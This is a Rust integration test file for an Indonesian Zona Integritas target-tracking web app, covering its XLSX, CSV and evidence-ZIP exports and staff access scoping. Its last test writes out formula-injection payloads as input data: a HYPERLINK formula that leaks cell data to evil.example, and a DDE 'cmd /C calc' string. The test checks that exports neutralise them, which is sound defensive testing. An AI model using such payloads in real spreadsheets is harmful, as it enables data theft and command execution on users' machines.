use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};

use crate::dashboard::seeded;
use crate::helpers::{sha256_hex, spawn_app};

fn cell(range: &calamine::Range<Data>, row: u32, col: u32) -> String {
    match range.get_value((row, col)) {
        Some(Data::String(s)) => s.clone(),
        Some(Data::Float(f)) => format!("{f}"),
        Some(Data::Int(i)) => format!("{i}"),
        Some(Data::Empty) | None => String::new(),
        Some(other) => format!("{other}"),
    }
}

fn find_row(range: &calamine::Range<Data>, col: u32, value: &str) -> u32 {
    (0..range.height() as u32)
        .find(|r| cell(range, *r, col) == value)
        .unwrap_or_else(|| panic!("no row with {value:?} in column {col}"))
}

#[tokio::test]
async fn xlsx_has_the_lke_table_the_period_and_the_summary() {
    let (app, pimpinan, _, _) = seeded().await;
    let res = pimpinan.get("/laporan/target.xlsx?periode=2021-2").await;
    assert_eq!(res.status(), 200);
    assert_eq!(
        res.headers()["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    assert!(
        res.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .contains("laporan-zi-2021-semester-2.xlsx")
    );
    let bytes = res.bytes().await.unwrap().to_vec();
    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    assert_eq!(
        wb.sheet_names(),
        vec!["Target dan Progres".to_string(), "Ringkasan".to_string()]
    );
    let t = wb.worksheet_range("Target dan Progres").unwrap();
    let header: Vec<String> = (0..12).map(|c| cell(&t, 3, c)).collect();
    assert_eq!(
        header,
        [
            "NO",
            "KOMPONEN",
            "INDIKATOR",
            "LANGKAH AKSI",
            "KEWENANGAN BERDASARKAN TUSI",
            "PIC",
            "STATUS",
            "REALISASI (%)",
            "URAIAN / KETERANGAN",
            "JUMLAH BUKTI",
            "TAUTAN BUKTI DUKUNG",
            "REVIU"
        ]
    );
    // group rows: component, then area, merged across the table
    assert_eq!(cell(&t, 4, 0), "I");
    assert_eq!(cell(&t, 4, 1), "MANAJEMEN PERUBAHAN");
    assert_eq!(cell(&t, 5, 0), "1");
    assert_eq!(cell(&t, 5, 1), "Tim Kerja");
    let merged: Vec<((u32, u32), (u32, u32))> = wb
        .merge_cells_by_sheet_name("Target dan Progres")
        .unwrap()
        .iter()
        .map(|d| (d.start, d.end))
        .collect();
    assert!(
        merged.contains(&((4, 1), (4, 11))),
        "component row merged: {merged:?}"
    );
    assert!(merged.contains(&((5, 1), (5, 11))), "area row merged");
    // the Tim Kerja indicator spans its three steps
    let first = find_row(&t, 0, "I.1.a.1");
    assert!(
        merged.contains(&((first, 2), (first + 2, 2))),
        "indicator cell spans 3 steps"
    );
    assert!(cell(&t, first, 2).starts_with("1.a SK Tim Kerja ZI"));
    assert_eq!(cell(&t, first, 6), "Selesai");
    assert_eq!(cell(&t, first, 7), "100");
    assert_eq!(cell(&t, first, 9), "1");
    let evidence_id: i64 = sqlx::query_scalar("SELECT id FROM evidence")
        .fetch_one(app.db())
        .await
        .unwrap();
    assert!(cell(&t, first, 10).ends_with(&format!("/bukti/{evidence_id}/unduh")));
    let fix = find_row(&t, 0, "I.2.a.1");
    assert_eq!(cell(&t, fix, 11), "Perlu perbaikan: Tambahkan notulen");
    // every step of the year is there
    let steps = (0..t.height() as u32)
        .filter(|r| cell(&t, *r, 0).matches('.').count() == 3)
        .count();
    assert_eq!(steps, 74);

    let s = wb.worksheet_range("Ringkasan").unwrap();
    let i = find_row(&s, 0, "I. MANAJEMEN PERUBAHAN");
    assert_eq!(cell(&s, i, 1), "9");
    assert_eq!(cell(&s, i, 2), "2");
    assert_eq!(cell(&s, i, 11), "5");
    assert_eq!(cell(&s, i, 12), "1.69");
    let total = find_row(&s, 0, "TOTAL");
    assert_eq!(cell(&s, total, 1), "74");
    assert_eq!(cell(&s, total, 11), "60");
    assert!((0..s.height() as u32).any(|r| cell(&s, r, 0).contains("bukan nilai resmi LKE")));
}

#[tokio::test]
async fn csv_has_the_same_rows_and_staff_get_their_own() {
    let (_app, pimpinan, staf, _) = seeded().await;
    let res = pimpinan.get("/laporan/target.csv?periode=2021-2").await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "text/csv; charset=utf-8");
    let text = res.text().await.unwrap();
    // UTF-8 with a byte-order mark, ';' between fields: what a spreadsheet under
    // Indonesian settings opens as columns
    assert!(text.starts_with('\u{feff}'));
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(zi_tracker::reports::CSV_SEPARATOR)
        .from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(
        header,
        zi_tracker::reports::CSV_HEADER.map(str::to_string).to_vec()
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 74);
    let r = rows
        .iter()
        .find(|r| &r[0] == "I" && &r[2] == "1" && &r[4] == "1" && &r[6] == "1")
        .unwrap();
    assert_eq!(&r[10], "Selesai");
    assert_eq!(&r[11], "100");
    assert_eq!(&r[13], "1");
    let r = rows
        .iter()
        .find(|r| &r[0] == "I" && &r[2] == "1" && &r[4] == "1" && &r[6] == "3")
        .unwrap();
    assert_eq!(&r[10], "Tidak dapat dilaksanakan");
    assert_eq!(
        &r[17], "Menunggu pusat",
        "the reason travels with the status"
    );
    assert_eq!(&header[0], "Komponen");
    let r = rows.iter().find(|r| &r[0] == "I" && &r[2] == "2").unwrap();
    assert_eq!((&r[15], &r[16]), ("Perlu perbaikan", "Tambahkan notulen"));

    let mine = staf
        .get("/laporan/target.csv?periode=2021-2")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(
        csv::ReaderBuilder::new()
            .delimiter(zi_tracker::reports::CSV_SEPARATOR)
            .from_reader(mine.as_bytes())
            .records()
            .count(),
        6
    );
    let (status, page) = staf.get_text("/laporan?periode=2021-2").await;
    assert_eq!(status, 200);
    assert!(page.contains("hanya memuat langkah aksi yang ditugaskan kepada Anda"));
}

#[tokio::test]
async fn evidence_archive_uses_lke_folders_an_index_and_the_stored_bytes() {
    let (app, pimpinan, staf, _) = seeded().await;
    // a second file and a link, on another step
    let step = app.step_id("I", 4, 1, 1).await;
    assert_eq!(
        staf.upload(
            step,
            "2021-2",
            "Foto apel.png",
            b"\x89PNG\r\n\x1a\nnot-really-but-typed".to_vec(),
            None
        )
        .await
        .status(),
        303
    );
    let res = staf
        .post(
            &format!("/langkah/{step}/tautan"),
            &[
                ("periode", "2021-2"),
                ("url", "https://contoh.go.id/video"),
                ("label", "Video"),
            ],
        )
        .await;
    assert_eq!(res.status(), 303);

    let res = pimpinan.get("/laporan/bukti.zip?periode=2021-2").await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "application/zip");
    let bytes = res.bytes().await.unwrap().to_vec();
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut names: Vec<String> = zip.file_names().map(|n| n.unwrap().into_owned()).collect();
    names.sort();
    assert_eq!(
        names,
        vec![
            "I MANAJEMEN PERUBAHAN/1 Tim Kerja/1.a SK Tim Kerja ZI telah dibuat sesuai prosedur yang telah ditetapkan/1 - sk.pdf".to_string(),
            "I MANAJEMEN PERUBAHAN/4 Perubahan pola pikir dan budaya kerja/4.a Pimpinan berperan sebagai role model dalam pelaksanaan pembangunan…/1 - Foto apel.png".to_string(),
            zi_tracker::reports::INDEX_NAME.to_string(),
        ]
    );
    // each file is exactly the stored evidence
    let stored: Vec<(String, String)> =
        sqlx::query_as("SELECT label, sha256 FROM evidence WHERE kind = 'file'")
            .fetch_all(app.db())
            .await
            .unwrap();
    for name in &names[..2] {
        let mut f = zip.by_name(name).unwrap();
        let mut content = Vec::new();
        f.read_to_end(&mut content).unwrap();
        let label = name.rsplit(" - ").next().unwrap();
        let (_, sha) = stored.iter().find(|(l, _)| l == label).unwrap();
        assert_eq!(&sha256_hex(&content), sha);
    }
    let mut index = Vec::new();
    zip.by_name(zi_tracker::reports::INDEX_NAME)
        .unwrap()
        .read_to_end(&mut index)
        .unwrap();
    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(index)).unwrap();
    let sheet = wb.worksheet_range("Indeks").unwrap();
    assert_eq!(sheet.height(), 4, "header + 3 items");
    let link = find_row(&sheet, 2, "Tautan");
    assert_eq!(cell(&sheet, link, 4), "https://contoh.go.id/video");
    let pdf = find_row(&sheet, 3, "sk.pdf");
    assert_eq!(cell(&sheet, pdf, 0), "I.1.a.1");
    assert_eq!(
        cell(&sheet, pdf, 5),
        stored.iter().find(|s| s.0 == "sk.pdf").unwrap().1
    );
    assert_eq!(cell(&sheet, pdf, 9), "Selesai");
}

#[tokio::test]
async fn an_empty_period_gives_valid_files_and_bad_periods_a_clear_page() {
    let app = spawn_app().await;
    let penilai = app.signed_in("penilai").await;
    let bytes = penilai
        .get("/laporan/target.xlsx?periode=2021-1")
        .await
        .bytes()
        .await
        .unwrap()
        .to_vec();
    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let t = wb.worksheet_range("Target dan Progres").unwrap();
    assert_eq!(cell(&t, 3, 0), "NO");
    let text = penilai
        .get("/laporan/target.csv?periode=2021-1")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(
        csv::Reader::from_reader(text.as_bytes()).records().count(),
        74
    );
    let bytes = penilai
        .get("/laporan/bukti.zip?periode=2021-1")
        .await
        .bytes()
        .await
        .unwrap()
        .to_vec();
    let zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    assert_eq!(
        zip.file_names()
            .map(|n| n.unwrap().into_owned())
            .collect::<Vec<_>>(),
        vec![zi_tracker::reports::INDEX_NAME.to_string()]
    );

    // a staff member without steps: headers only
    let staf = app.signed_in("staf").await;
    let text = staf
        .get("/laporan/target.csv?periode=2021-2")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(text.lines().count(), 1);

    for path in [
        "/laporan/target.xlsx?periode=2030-1",
        "/laporan/bukti.zip?periode=abc",
        "/laporan/cetak?periode=2021-7",
    ] {
        let res = penilai.get(path).await;
        assert_eq!(res.status(), 404, "{path}");
        assert!(
            res.text()
                .await
                .unwrap()
                .contains("Halaman tidak ditemukan")
        );
    }
    let anon = app
        .client()
        .get(app.url("/laporan/target.xlsx"))
        .send()
        .await
        .unwrap();
    assert_eq!(anon.status(), 303);

    let (status, page) = penilai.get_text("/laporan/cetak?periode=2021-2").await;
    assert_eq!(status, 200);
    assert!(page.contains("Target Prioritas Pembangunan Zona Integritas Tahun 2021"));
    assert!(page.contains("A4 mendatar"));
    assert_eq!(page.matches("<td class=\"num\">0%</td>").count(), 74);
}

/// A narrative or note that a spreadsheet would run as a formula comes out of every
/// CSV with a leading apostrophe; the XLSX holds it as plain text (no formula cell);
/// the catalogue's export → import round trip stays exact.
#[tokio::test]
async fn cells_a_spreadsheet_would_run_are_neutralised() {
    let app = spawn_app().await;
    let staf = app.signed_in("staf").await;
    let penilai = app.signed_in("penilai").await;
    let admin = app.signed_in("admin").await;
    let step = app.step_id("I", 1, 1, 1).await;
    app.assign(step, staf.user_id).await;
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")";
    let res = staf
        .save_progress(step, "2021-2", "berjalan", "10", formula)
        .await;
    assert_eq!(res.status(), 303);
    assert_eq!(
        penilai
            .review(step, "2021-2", "perbaikan", "@SUM(1+1)*cmd|' /C calc'!A0")
            .await
            .status(),
        303
    );

    let csv = penilai
        .get("/laporan/target.csv?periode=2021-2")
        .await
        .text()
        .await
        .unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(zi_tracker::reports::CSV_SEPARATOR)
        .from_reader(csv.as_bytes());
    let row = reader
        .records()
        .map(|r| r.unwrap())
        .find(|r| r.get(7) == Some("Penetapan SK dan Menyusun SOP pemilihan tim kerja ZI"))
        .expect("the step's row");
    let cells: Vec<&str> = row.iter().collect();
    assert!(cells.contains(&format!("'{formula}").as_str()), "{cells:?}");
    assert!(cells.iter().any(|c| c.starts_with("'@SUM")), "{cells:?}");
    for c in &cells {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a live formula cell: {c:?}"
        );
    }

    // XLSX: the same text, as a string cell, not a formula
    let bytes = penilai
        .get("/laporan/target.xlsx?periode=2021-2")
        .await
        .bytes()
        .await
        .unwrap()
        .to_vec();
    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let t = wb.worksheet_range("Target dan Progres").unwrap();
    let r = find_row(
        &t,
        3,
        "Penetapan SK dan Menyusun SOP pemilihan tim kerja ZI",
    );
    assert_eq!(
        t.get_value((r, 8)),
        Some(&Data::String(formula.to_string()))
    );
    let formulas = wb.worksheet_formula("Target dan Progres").unwrap();
    assert!(
        formulas.cells().all(|(_, _, f)| f.is_empty()),
        "no formula cells in the report"
    );

    // catalogue: a step text starting with "=" exports guarded and imports back exact
    let res = admin
        .post(
            &format!("/admin/target/langkah/{step}"),
            &[
                ("text", "=1+2 susun SOP"),
                ("authority", "Instansi yang berwenang mengelola ZI"),
                ("unit", "1"),
            ],
        )
        .await;
    assert_eq!(res.status(), 303);
    let exported = admin
        .get("/katalog/ekspor.csv?tahun=2021")
        .await
        .text()
        .await
        .unwrap();
    assert!(
        exported.contains(",'=1+2 susun SOP,"),
        "guarded in the export"
    );
    let form = reqwest::multipart::Form::new()
        .text("csrf_token", admin.csrf.clone())
        .text("tahun", "2040")
        .part(
            "file",
            reqwest::multipart::Part::bytes(exported.clone().into_bytes()).file_name("t.csv"),
        );
    let res = admin
        .client
        .post(admin.url("/admin/target-impor"))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
    let again = admin
        .get("/katalog/ekspor.csv?tahun=2040")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(again, exported, "export → import → export is exact");
    let stored: i64 =
        sqlx::query_scalar("SELECT count(*) FROM action_steps WHERE text = '=1+2 susun SOP'")
            .fetch_one(app.db())
            .await
            .unwrap();
    assert_eq!(stored, 2, "2021 and the imported 2040 hold the text itself");
}
